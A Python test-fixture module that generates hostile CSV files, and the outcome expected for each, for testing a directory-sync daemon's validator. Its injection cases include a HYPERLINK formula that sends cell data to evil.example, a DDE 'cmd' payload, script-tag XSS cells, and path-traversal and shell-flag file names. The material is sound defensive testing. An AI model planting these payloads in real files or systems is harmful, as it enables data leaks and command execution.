"""Files nobody should send, generated: binaries and workbooks named `.csv`, broken
encodings, NUL bytes, huge cells, rows and columns, broken quotes, wrong headers, formula
and script cells, hostile file names. Made by the tests, never committed.

A generator is a `Writer`: it writes a file to an open binary stream, in pieces, so the
10 MB cell or the 10 million blank lines are never built in memory whole (nor twice).
`syncd validate` (tests/e2e/test_hostile_files.py) and the running daemon
(tests/e2e/test_hostile_daemon.py) take their files from here.
"""

from __future__ import annotations

import codecs
import gzip
import io
import os
import random
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import BinaryIO

Writer = Callable[[BinaryIO], None]

#: Pieces a streamed generator writes at a time.
PIECE = 1024 * 1024


def write_file(path: Path, writer: Writer) -> int:
    """Write `writer`'s file at `path`; its size in bytes."""
    with path.open("wb") as out:
        writer(out)
    return path.stat().st_size


def of(data: bytes) -> Writer:
    return lambda out: out.write(data) and None


def joined(*writers: Writer) -> Writer:
    """One file made of the pieces the writers write, one after the other."""

    def write(out: BinaryIO) -> None:
        for writer in writers:
            writer(out)

    return write


def repeated(piece: bytes, times: int) -> Writer:
    """`piece` `times` times, a megabyte or so at a time."""

    def write(out: BinaryIO) -> None:
        per = max(1, PIECE // max(1, len(piece)))
        left = times
        while left > 0:
            n = min(per, left)
            out.write(piece * n)
            left -= n

    return write


# -- not text at all ----------------------------------------------------------------------


def binary(seed: int = 20261122, size: int = 8192, *, nuls: bool = True) -> Writer:
    """Random bytes; with `nuls` False, none is NUL (and so nothing says "binary" at once)."""
    noise = random.Random(seed).randbytes(size)
    if nuls:
        return of(noise[:100] + b"\x00\x00\x00" + noise[100:])
    return of(noise.replace(b"\x00", b"\x01"))


def zipped(members: dict[str, bytes]) -> bytes:
    """A ZIP archive; a member named `mimetype` is stored first and uncompressed, as
    OpenDocument files have it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            stored = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=stored)
    return out.getvalue()


def xlsx() -> bytes:
    """The skeleton of an Excel workbook: what `Save As .xlsx` gives, renamed `.csv`."""
    return zipped(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": b"<worksheet/>",
        }
    )


def ods() -> bytes:
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})


#: The first bytes of an old Excel workbook (an OLE2 compound file).
XLS_MAGIC = bytes.fromhex("d0cf11e0a1b11ae1")


def gzipped(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


# -- text -------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Layout:
    """The columns of an export and the cells of person `n` in it."""

    header: tuple[str, ...]
    person: Callable[[int], tuple[str, ...]]


#: What `syncd validate` reads with the `default` profile (keyed on email).
PEOPLE = Layout(
    ("Email", "First Name", "Last Name"),
    lambda n: (f"p{n}@example.com", f"Zoë{n}", "Ødegård"),
)
#: The nightly HR export (`hr_full`, keyed on Employee ID).
HR = Layout(
    ("Employee ID", "Primary Email", "First Name", "Last Name", "Current Status"),
    lambda n: (f"E{n:04d}", f"p{n}@example.com", f"Zoë{n}", "Ødegård", "Active"),
)


def quoted(cell: str, delimiter: str = ",") -> str:
    """A cell as a CSV writer writes it: quoted when it must be."""
    if any(ch in cell for ch in (delimiter, '"', "\r", "\n")):
        return '"' + cell.replace('"', '""') + '"'
    return cell


def line(cells: Sequence[str], delimiter: str = ",") -> str:
    return delimiter.join(quoted(c, delimiter) for c in cells)


_line = line


def _quoting_all(cells: Sequence[str], delimiter: str = ",") -> str:
    return delimiter.join('"' + c.replace('"', '""') + '"' for c in cells)


@dataclass(frozen=True, slots=True)
class Export:
    """An export of `people` in `layout`, with some cells or rows made hostile.

    `cells` replaces cells of person n (by column index); `extra` adds rows after
    person n (as raw lines); `skip` leaves people out. Written as one text.
    """

    layout: Layout
    people: Iterable[int]
    delimiter: str = ","
    eol: str = "\r\n"
    cells: dict[int, dict[int, str]] = field(default_factory=dict)
    extra: dict[int, Sequence[str]] = field(default_factory=dict)
    raw: dict[int, str] = field(default_factory=dict)  # person n's line as written
    header: Sequence[str] | None = None
    raw_header: str | None = None  # the header line as written
    quote_all: bool = False

    def lines(self) -> list[str]:
        d = self.delimiter
        line = _quoting_all if self.quote_all else _line
        header = line(self.header if self.header is not None else self.layout.header, d)
        out = [self.raw_header if self.raw_header is not None else header]
        for n in self.people:
            if n in self.raw:
                out.append(self.raw[n])
            else:
                cells = list(self.layout.person(n))
                for i, value in self.cells.get(n, {}).items():
                    cells[i] = value
                out.append(line(cells, d))
            out.extend(self.extra.get(n, ()))
        return out

    def text(self) -> str:
        if self.eol != "mixed":
            return self.eol.join(self.lines()) + self.eol
        # CRLF, LF and a bare CR in turn, as files pasted together from several systems
        ends = ("\r\n", "\n", "\r")
        return "".join(f"{text}{ends[i % 3]}" for i, text in enumerate(self.lines()))


def text(content: str, encoding: str = "utf-8", bom: bytes = b"") -> Writer:
    return of(bom + content.encode(encoding))


def export(exp: Export, encoding: str = "utf-8", bom: bytes = b"") -> Writer:
    return text(exp.text(), encoding, bom)


# -- too much of something ----------------------------------------------------------------


def huge_cell(layout: Layout, people: Iterable[int], who: int, column: int, chars: int) -> Writer:
    """An export whose person `who` has `chars` characters in `column`, streamed."""

    def write(out: BinaryIO) -> None:
        out.write((line(layout.header) + "\r\n").encode())
        for n in people:
            cells = list(layout.person(n))
            if n != who:
                out.write((line(cells) + "\r\n").encode())
                continue
            before, after = line(cells[:column]), line(cells[column + 1 :])
            out.write((before + "," if before else "").encode())
            repeated(b"x", chars)(out)
            out.write(("," + after if after else "").encode() + b"\r\n")

    return write


def wide(layout: Layout, people: Iterable[int], columns: int) -> Writer:
    """An export with `columns` columns: the layout's, then `Extra 1`, `Extra 2`, ..."""
    more = columns - len(layout.header)

    def write(out: BinaryIO) -> None:
        out.write(line([*layout.header, *(f"Extra {i}" for i in range(1, more + 1))]).encode())
        out.write(b"\r\n")
        for n in people:
            out.write(line(layout.person(n)).encode() + b"," * more + b"v\r\n")

    return write


def blank_lines(
    before: Writer, count: int, after: Writer | None = None, eol: bytes = b"\n"
) -> Writer:
    """`before`, then `count` blank lines, then `after`."""
    return joined(before, repeated(eol, count), *((after,) if after else ()))


def invalid_rows(layout: Layout, count: int, start: int) -> Writer:
    """`count` people from `start` on whose email is not an address, streamed."""

    def write(out: BinaryIO) -> None:
        out.write((line(layout.header) + "\r\n").encode())
        n = start
        while n < start + count:
            block = []
            for m in range(n, min(n + 10_000, start + count)):
                cells = list(layout.person(m))
                cells[layout.header.index(_email_header(layout))] = f"not an email {m}"
                block.append(line(cells))
            out.write(("\r\n".join(block) + "\r\n").encode())
            n += 10_000

    return write


def _email_header(layout: Layout) -> str:
    return next(h for h in layout.header if "mail" in h.lower())


# -- text in the wrong shape --------------------------------------------------------------


def misaligned_utf16(content: str) -> Writer:
    """UTF-16 LE with a BOM that lost a byte a little way in: the rest reads shifted."""
    data = codecs.BOM_UTF16_LE + content.encode("utf-16-le")
    return of(data[:41] + data[42:])


def set_mtime(path: Path, mtime: float) -> None:
    os.utime(path, (mtime, mtime))


# -- the corpus the daemon takes ------------------------------------------------------------

#: The base export: the directory these people make up is what hostile files must not harm.
BASE = range(1, 301)
#: The last ten of them, left out of files that must not archive them anyway.
LEAVERS = range(291, 301)
STAYERS = range(1, 291)

#: Passwords in a file of the wrong format; none may reach a report.
PASSWORDS = ("Pl4ya-del-Sol", "Z7ugspitze!", "hunter2-Secret")

FORMULAS = {
    1: '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    2: "+1+2",
    3: "-3+4",
    4: "@SUM(A1:A9)",
    5: "\t=1+1",
    6: "=cmd|' /C calc'!A0",
}
SCRIPTS = {
    1: "<script>alert('first')</script>",
    2: '<img src=x onerror="alert(2)">',
    3: "</td></tr></table><h1>Injected</h1>",
}

Status = str
APPLIED, WITH_ERRORS, REJECTED, HELD, SKIPPED = (
    "applied", "applied_with_errors", "rejected", "held", "skipped",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file the daemon is sent and what must become of it.

    `statuses`: the outcomes that are right for it; `words`: said in its job's messages or
    row errors; `unchanged`: a good copy of the base export in some dress, which must
    leave every user as it was. `then` is what happens to the file once the daemon has
    it: it `vanish`es or is `replace`d by `replacement` once its job is queued, or is
    replaced once its job has taken it (`replace_when_taken`).
    """

    name: str
    write: Writer
    statuses: frozenset[Status]
    words: str = ""
    unchanged: bool = False
    then: str | None = None
    replacement: Writer | None = None
    #: False for names a source never takes (hidden, uploads in progress): no job
    taken: bool = True
    #: whether an SFTP server can list this name (paramiko reads names as UTF-8 only)
    sftp: bool = True
    #: the file holds passwords: it is settled as a copy with them blanked
    secrets: bool = False

    @property
    def settles(self) -> bool:
        """Whether the file (or its replacement) ends settled; a vanished one cannot."""
        return self.then != "vanish"


def _case(name: str, write: Writer, *statuses: Status, words: str = "", **more: object) -> Hostile:
    return Hostile(name, write, frozenset(statuses), words, **more)  # type: ignore[arg-type]


def _base(**changes: object) -> Export:
    return Export(HR, BASE, **changes)  # type: ignore[arg-type]


def _same(name: str, exp: Export, encoding: str = "utf-8", bom: bytes = b"") -> Hostile:
    """The base export, dressed differently: read right, it changes nobody."""
    return _case(name, export(exp, encoding, bom), APPLIED, unchanged=True)


def _few(first: int, count: int = 3) -> Writer:
    """A small, valid export of a few people: as a full export it would archive the rest,
    which the guard holds."""
    return export(Export(HR, range(first, first + count)))


def _with_byte(exp: Export, old: str, new: bytes) -> Writer:
    return of(exp.text().encode("utf-8").replace(old.encode("utf-8"), new, 1))


def _cut_short(exp: Export) -> Writer:
    data = exp.text().encode("utf-8").rstrip(b"\r\n")
    return of(data[: data.rfind(b",")])  # the last row loses its last cells and line end


_HR_LINES = Export(HR, BASE).text().encode("utf-8").split(b"\r\n")


def _split_base(count: int, eol: bytes = b"\r\n") -> Writer:
    """The base export with `count` blank lines in its middle."""
    half = 1 + len(BASE) // 2
    return blank_lines(
        of(b"\r\n".join(_HR_LINES[:half]) + b"\r\n"),
        count,
        of(b"\r\n".join(_HR_LINES[half:])),
        eol,
    )


CONTACTS_FORMAT = (
    "email,first_name,last_name,company_id,labels,labels_id\r\n"
    "p1@example.com,Zoë1,Ødegård,C-1,Trial,\r\n"
    "p2@example.com,Zoë2,Ødegård,C-2,Demo:Trial,L-7\r\n"
)
AGENTS_FORMAT = "email,first_name,last_name,password,active\r\n" + "".join(
    f"p{n}@example.com,Zoë{n},Ødegård,{PASSWORDS[n - 1]},true\r\n" for n in (1, 2, 3)
)

CORPUS: tuple[Hostile, ...] = (
    # The base export in other encodings, delimiters and line ends: every user unchanged.
    # (First, while the directory is exactly the base export.)
    _same("utf8-bom.csv", _base(), bom=codecs.BOM_UTF8),
    _same("utf8-two-boms.csv", _base(), bom=codecs.BOM_UTF8 * 2),
    _same("utf16le-bom-tabs.csv", _base(delimiter="\t"), "utf-16-le", codecs.BOM_UTF16_LE),
    _same("utf16be-bom.csv", _base(), "utf-16-be", codecs.BOM_UTF16_BE),
    _same("utf16le-no-bom.csv", _base(), "utf-16-le"),
    _same("utf16be-no-bom.csv", _base(), "utf-16-be"),
    _same("utf32le-bom.csv", _base(), "utf-32-le", codecs.BOM_UTF32_LE),
    _same("cp1252.csv", _base(), "cp1252"),
    _same("semicolons.csv", _base(delimiter=";")),
    _same("tabs.csv", _base(delimiter="\t")),
    _same("pipes.csv", _base(delimiter="|")),
    _same("lf-only.csv", _base(eol="\n")),
    _same("cr-only.csv", _base(eol="\r")),
    _same("quoted-everything.csv", _base(quote_all=True)),
    _same(
        "headers-in-other-dress.csv",
        _base(header=("employee_id", "PRIMARY-EMAIL", "first name", "Last_Name", " Status ")),
    ),
    _same("mixed-line-ends.csv", _base(eol="mixed")),
    _same(
        "trailing-empty-columns.csv",
        _base(header=(*HR.header, "", ""), raw={n: _line(HR.person(n)) + ",," for n in BASE}),
    ),
    _case(
        "hr-export-with-a-password-column.csv",
        export(
            _base(
                header=(*HR.header, "Password"),
                raw={n: _line(HR.person(n)) + f",{PASSWORDS[n - 1]}" for n in (1, 2, 3)},
            )
        ),
        APPLIED,
        words="ignored columns",
        unchanged=True,
        secrets=True,
    ),
    _case("ten-million-blank-lines.csv", _split_base(10_000_000), APPLIED, unchanged=True),
    _case("the-base-export-again.csv", export(_base()), SKIPPED, words="identical"),
    # Not text at all.
    _case("random-binary.csv", binary(), REJECTED, words="NUL"),
    _case("random-binary-without-nuls.csv", binary(7, nuls=False), REJECTED, words="do not fit"),
    _case(
        "zip-renamed.csv",
        of(zipped({"users.csv": Export(HR, BASE).text().encode()})),
        REJECTED,
        words="ZIP archive",
    ),
    _case("xlsx-renamed.csv", of(xlsx()), REJECTED, words="Excel workbook"),
    _case(
        "xls-renamed.csv",
        of(XLS_MAGIC + random.Random(3).randbytes(4000)),
        REJECTED,
        words="old Excel workbook",
    ),
    _case("ods-renamed.csv", of(ods()), REJECTED, words="OpenDocument"),
    _case(
        "gzip-renamed.csv", of(gzipped(Export(HR, BASE).text().encode())), REJECTED, words="gzip"
    ),
    _case(
        "pdf-renamed.csv",
        of(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        REJECTED,
        words="PDF",
    ),
    _case(
        "png-renamed.csv",
        of(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
        REJECTED,
        words="NUL",
    ),
    # Text that is not what it claims, or not readable.
    _case(
        "utf16-missing-a-byte.csv",
        misaligned_utf16(Export(HR, BASE).text()),
        REJECTED,
        words="cannot be read as utf-16-le",
    ),
    _case(
        "invalid-utf8-no-fallback-fits.csv",
        of(line(HR.header).encode() + b"\r\nE0001,p1@example.com,Zo\x81\x8d,\x90d\x9d,Active\r\n"),
        REJECTED,
        words="neither as UTF-8",
    ),
    _case(
        "stray-latin1-byte.csv",
        _with_byte(_base(), "Zoë7,", b"Ren\xe9e7,"),
        WITH_ERRORS,
        words="not UTF-8",
    ),
    _case(
        "utf16-cjk-no-bom.csv",
        text(
            Export(HR, BASE, cells={n: {2: "東京太郎", 3: "山田"} for n in BASE}).text(),
            "utf-16-le",
        ),
        REJECTED,
        HELD,
        APPLIED,
    ),
    _case("nul-in-a-cell.csv", _with_byte(_base(), "Zoë9,", b"Zo\x00e9,"), REJECTED, words="NUL"),
    _case(
        "nul-padded.csv", joined(export(_base()), repeated(b"\x00", 4096)), REJECTED, words="NUL"
    ),
    # Too little.
    _case("zero-bytes.csv", of(b""), REJECTED, words="empty"),
    _case("one-byte.csv", of(b"E"), REJECTED, words="no data rows"),
    _case("one-line-end.csv", of(b"\n"), REJECTED, words="blank lines"),
    _case("only-a-bom.csv", of(codecs.BOM_UTF8), REJECTED, words="byte order mark"),
    _case("header-only.csv", text(line(HR.header) + "\r\n"), REJECTED, words="no data rows"),
    _case("header-only-no-line-end.csv", text(line(HR.header)), REJECTED, words="no data rows"),
    _case("only-blank-lines.csv", repeated(b"\r\n", 1_000_000), REJECTED, words="blank lines"),
    _case(
        "header-then-blank-lines.csv",
        blank_lines(text(line(HR.header) + "\r\n"), 1_000_000),
        REJECTED,
        words="no data rows",
    ),
    # Too much.
    _case(
        "ten-megabyte-cell.csv",
        huge_cell(HR, BASE, 8, 3, 10_000_000),
        WITH_ERRORS,
        words="more than the 1,000,000 allowed",
    ),
    _case(
        "hundred-thousand-columns.csv",
        wide(HR, range(1, 4), 100_000),
        REJECTED,
        words="columns, more than the 1,000 allowed",
    ),
    _case("hundred-thousand-invalid-rows.csv", invalid_rows(HR, 100_000, 100_000), REJECTED),
    # Broken quotes.
    _case(
        "unclosed-quote-first-row.csv",
        export(_base(raw={1: 'E0001,p1@example.com,"Zoë1,Ødegård,Active'})),
        REJECTED,
        words="unbalanced quotes",
    ),
    _case(
        "unclosed-quote-last-row.csv",
        export(_base(raw={300: 'E0300,p300@example.com,"Zoë300,Ødegård,Active'})),
        REJECTED,
        words="unbalanced quotes",
    ),
    _case(
        "unclosed-quote-in-header.csv",
        export(_base(raw_header='"Employee ID,Primary Email,First Name,Last Name,Current Status')),
        REJECTED,
    ),
    # The wrong columns.
    _case("another-profiles-format.csv", text(CONTACTS_FORMAT), REJECTED, words="Employee ID"),
    _case(
        "agents-format-with-passwords.csv",
        text(AGENTS_FORMAT),
        REJECTED,
        words="Employee ID",
        secrets=True,
    ),
    _case(
        "user-directory-format.csv",
        text(
            "Current Status,Display Name,Primary Email,Role\r\nActive,Zoë,p1@example.com,User\r\n"
        ),
        REJECTED,
        words="Employee ID",
    ),
    _case(
        "two-columns-filling-email.csv",
        export(_base(header=("Employee ID", "Primary Email", "Email", "Last Name", "Status"))),
        REJECTED,
        words="both fill email",
    ),
    _case(
        "only-delimiters.csv",
        joined(text(line(HR.header) + "\r\n"), repeated(b",,,,\r\n", 1000)),
        REJECTED,
        words="no data rows",
    ),
    _case(
        "duplicate-headers.csv",
        export(_base(header=(*HR.header[:4], "Primary Email"))),
        REJECTED,
        words="keep one of these columns",
    ),
    _case("no-header-row.csv", of(b"\r\n".join(_HR_LINES[1:])), REJECTED),
    # Rows that are wrong: users they name stay; a key that cannot be read archives nobody.
    _case(
        "every-row-invalid.csv",
        export(_base(cells={n: {1: f"p{n} at example.com"} for n in BASE})),
        REJECTED,
    ),
    _case(
        "duplicate-keys.csv",
        export(
            _base(extra={n: [f"E{n:04d},dup{n}@example.com,Dup,Dup,Active"] for n in range(1, 6)})
        ),
        WITH_ERRORS,
    ),
    _case(
        "duplicate-emails-in-another-case.csv",
        export(_base(cells={n + 1: {1: f"P{n}@EXAMPLE.COM"} for n in range(10, 15)})),
        WITH_ERRORS,
    ),
    _case(
        "ragged-rows-and-leavers.csv",
        export(Export(HR, STAYERS, raw={5: "E0005,p5@example.com,Zoë5,Ødegård,Active,x,y"})),
        WITH_ERRORS,
        words="archive",
    ),
    _case(
        "short-rows.csv", export(_base(raw={n: f"E{n:04d}" for n in range(20, 25)})), WITH_ERRORS
    ),
    _case(
        "blank-key-and-leavers.csv",
        export(Export(HR, STAYERS, cells={6: {0: ""}})),
        WITH_ERRORS,
        words="archive",
    ),
    _case(
        "cut-short-and-leavers.csv", _cut_short(Export(HR, STAYERS)), WITH_ERRORS, words="cut short"
    ),
    _case(
        "line-breaks-in-names.csv",
        export(_base(cells={n: {2: f"Zoë\r\n{n}"} for n in (60, 61)})),
        WITH_ERRORS,
        words="single line",
    ),
    _case(
        "unknown-status.csv",
        export(_base(cells={n: {4: "Terminated"} for n in (30, 31, 32)})),
        WITH_ERRORS,
    ),
    # Cells a spreadsheet or a browser would run.
    _case(
        "formula-cells.csv",
        export(
            _base(
                cells={
                    **{n: {2: f} for n, f in FORMULAS.items()},
                    40: {1: '=HYPERLINK("http://evil.example","x")'},
                    41: {1: "+41@example.com"},
                }
            )
        ),
        WITH_ERRORS,
    ),
    _case(
        "script-cells.csv",
        export(
            _base(
                cells={
                    **{n + 10: {3: s} for n, s in SCRIPTS.items()},
                    50: {1: "<script>alert(50)</script>@example.com"},
                }
            )
        ),
        WITH_ERRORS,
    ),
    # Hostile names, on small valid files (held: as full exports they would archive most).
    _case("report..\\..\\escape attempt.csv", _few(1), HELD),
    _case("  spaces  in  the  name .csv", _few(2), HELD),
    _case("Zoë Ødegård 東京 👩‍💻.csv", _few(3), HELD),
    _case("line\nbreak.csv", _few(4), HELD),
    _case("carriage\rreturn.csv", _few(5), HELD),
    _case("escape\x1b[31m-red.csv", _few(6), HELD),
    _case("x" * 240 + ".csv", _few(7), HELD),
    _case("UPPER CASE.CSV", _few(8), HELD),
    _case("report\u202evsc.csv", _few(17), HELD),
    _case("-rf --no-preserve-root.csv", _few(9), HELD),
    _case("quote'double\"semi;comma,.csv", _few(10), HELD),
    # Names never taken: hidden, or uploads still in progress.
    _case("..\\..\\hidden escape.csv", _few(11), taken=False),
    _case(".hidden.csv", _few(12), taken=False),
    _case("upload.csv.part", _few(13), taken=False),
    _case("export.csv.tmp", _few(14), taken=False),
    _case("backup.csv~", _few(15), taken=False),
    _case("latin1-r\udce9sum\udce9.csv", _few(16), taken=False, sftp=False),
    # Files that change under the daemon.
    _case("vanishes-before-fetch.csv", _few(20), REJECTED, words="vanished", then="vanish"),
    _case(
        "replaced-before-fetch.csv",
        _few(21),
        REJECTED,
        words="changed",
        then="replace",
        replacement=_few(22, 4),
    ),
    _case(
        "replaced-while-read.csv",
        invalid_rows(HR, 30_000, 400_000),
        REJECTED,
        then="replace_when_taken",
        replacement=_few(23, 5),
    ),
)
